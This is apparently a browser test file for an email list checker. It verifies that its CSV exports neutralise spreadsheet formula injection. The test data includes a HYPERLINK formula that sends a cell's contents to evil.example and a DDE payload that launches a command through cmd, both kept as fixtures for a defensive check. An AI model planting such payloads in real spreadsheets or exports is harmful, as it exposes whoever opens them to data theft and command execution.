// Browser tests of the list checker's finer points (www/list.html), small and
// fast, in headless Debian Chromium driven by playwright-core: the
// spreadsheet-formula guard of the exports.
//
//   bash scripts/install-chromium.sh && bash crates/wasm/build.sh && cargo build -p prebounce-probe
//   node --test tests/browser/
import { describe, test, before, after, afterEach } from 'node:test';
import assert from 'node:assert/strict';
import { skip, startBrowser, finished, records, download } from './list-page.mjs';

describe('list checker: exports, undo, deep-check depth, keyboard, encodings', { skip, timeout: 180_000 }, () => {
  let browser = null;

  before(async () => {
    browser = await startBrowser();
  });

  after(async () => {
    if (browser) await browser.close();
  });

  afterEach(() => browser.closePages());

  /** Loads `text` (or bytes) as a file named `name` and waits for the run to end. */
  async function load(page, name, content, mimeType = 'text/csv') {
    await page.setInputFiles('#file', { name, mimeType, buffer: Buffer.isBuffer(content) ? content : Buffer.from(content) });
    await finished(page);
    await page.waitForFunction((n) => window.listApp.name === n && window.listApp.state === 'done', name);
  }

  test('every CSV export guards cells a spreadsheet would run as formulas, the address too; the guard can be turned off', async () => {
    const page = await browser.open();
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    const dde = "=cmd|' /C calc'!A0";
    const csv = [
      'name,email,note',
      `"${formula.replaceAll('"', '""')}",ana@example.com,+1 555 0100`,
      'Bob,-bob@example.com,@bob on chat',
      '"=1+1\nsecond line",carl@example.com,"\ttabbed"',
      `Dan,"${dde}",-`,
      'Eve,eve@example.com,"\rafter a carriage return"',
    ].join('\n');
    await load(page, 'formulas.csv', `${csv}\n`);
    assert.equal(await page.isChecked('#export-guard'), true, 'the guard is on by default');

    const clean = records((await download(page, '#export-clean')).text);
    assert.deepEqual(clean, [
      ['name', 'email', 'note'],
      [`'${formula}`, 'ana@example.com', "'+1 555 0100"],
      ['Bob', "'-bob@example.com", "'@bob on chat"],
      ["'=1+1\nsecond line", 'carl@example.com', "'\ttabbed"],
      ['Eve', 'eve@example.com', "'\rafter a carriage return"],
    ]);
    const suppression = records((await download(page, '#export-suppression')).text);
    assert.deepEqual(suppression, [['name', 'email', 'note'], ['Dan', `'${dde}`, "'-"]]);
    const annotated = records((await download(page, '#export-annotated')).text);
    assert.deepEqual(annotated.map((r) => r.slice(0, 4)), [
      ['name', 'email', 'note', 'status'],
      [`'${formula}`, 'ana@example.com', "'+1 555 0100", 'valid'],
      ['Bob', "'-bob@example.com", "'@bob on chat", 'valid'],
      ["'=1+1\nsecond line", 'carl@example.com', "'\ttabbed", 'valid'],
      ['Dan', `'${dde}`, "'-", 'invalid'],
      ['Eve', 'eve@example.com', "'\rafter a carriage return", 'valid'],
    ]);

    // Off: the cells as they were.
    await page.uncheck('#export-guard');
    const raw = records((await download(page, '#export-clean')).text);
    assert.deepEqual(raw[1], [formula, 'ana@example.com', '+1 555 0100']);
    assert.deepEqual(raw[2], ['Bob', '-bob@example.com', '@bob on chat']);

    // A text list's clean list (one address a line) is guarded the same way.
    await page.check('#export-guard');
    await load(page, 'plain.txt', '-ana@example.com\nbob@example.com\n', 'text/plain');
    assert.equal((await download(page, '#export-clean')).text, "'-ana@example.com\nbob@example.com\n");
    assert.deepEqual(page.errors, []);
  });
});
